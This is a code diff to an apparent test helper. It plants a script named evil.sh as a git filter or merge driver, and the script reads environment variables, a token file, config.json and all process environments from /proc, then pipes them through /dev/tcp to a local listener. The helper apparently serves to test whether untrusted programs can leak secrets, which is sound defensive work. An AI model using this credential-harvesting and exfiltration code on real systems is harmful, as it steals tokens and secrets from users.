@@ -1,3 +1,5 @@
+import { spawn } from "node:child_process";
+import { once } from "node:events";
 import { appendFileSync, chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 
@@ -11,21 +13,46 @@ export interface Loot {
   by(name: string): string;
 }
 
-export function layLoot(folder: string, dataFolder: string): Loot {
+/** Takes what the strangers' programs tell, outside the wall: they may be let to write nowhere at all. */
+const FENCE = `
+const { appendFileSync } = require("node:fs");
+const server = require("node:net").createServer((socket) => {
+  const told = [];
+  socket.on("data", (chunk) => told.push(chunk));
+  socket.on("error", () => undefined);
+  socket.on("close", () => appendFileSync(process.argv[1], Buffer.concat(told)));
+});
+server.listen(0, "127.0.0.1", () => console.log(server.address().port));
+`;
+
+export async function layLoot(folder: string, dataFolder: string, onEnd: (end: () => void) => void): Promise<Loot> {
   mkdirSync(folder, { recursive: true });
   const program = join(folder, "evil.sh");
+  const told = join(folder, "told");
+  const fence = spawn(process.execPath, ["-e", FENCE, told], { stdio: ["ignore", "pipe", "inherit"] });
+  onEnd(() => void fence.kill());
+  const [port] = (await once(fence.stdout, "data")) as [Buffer];
   const look = [
-    `echo "$1" >> ${folder}/ran`,
-    `{ env; cat ${dataFolder}/token ${dataFolder}/config.json; cat /proc/[0-9]*/environ | tr '\\0' '\\n'; } >> ${folder}/seen 2>/dev/null`,
+    `echo "ran:$1"; env; cat ${dataFolder}/token ${dataFolder}/config.json; cat /proc/[0-9]*/environ | tr '\\0' '\\n'`,
     // As a filter it hands on what it is given, as a merge driver it takes ours, as anything else it says nothing.
     'case "$1" in filter*) cat;; esac',
   ];
-  writeFileSync(program, `#!/bin/sh\n${look.join("\n")}\nexit 0\n`);
+  writeFileSync(
+    program,
+    `#!/bin/bash\n{ ${look[0]}; } 2>/dev/null >/dev/tcp/127.0.0.1/${String(port).trim()}\n${look[1]}\nexit 0\n`,
+  );
   chmodSync(program, 0o755);
-  const read = (name: string) => (existsSync(join(folder, name)) ? readFileSync(join(folder, name), "utf8") : "");
+  const seen = () => (existsSync(told) ? readFileSync(told, "utf8") : "");
   return {
-    ran: () => [...new Set(read("ran").split("\n").filter(Boolean))].sort(),
-    seen: () => read("seen"),
+    ran: () =>
+      [
+        ...new Set(
+          seen()
+            .match(/^ran:.*$/gm)
+            ?.map((line) => line.slice(4)),
+        ),
+      ].sort(),
+    seen,
     by: (name) => `${program} ${name}`,
   };
 }
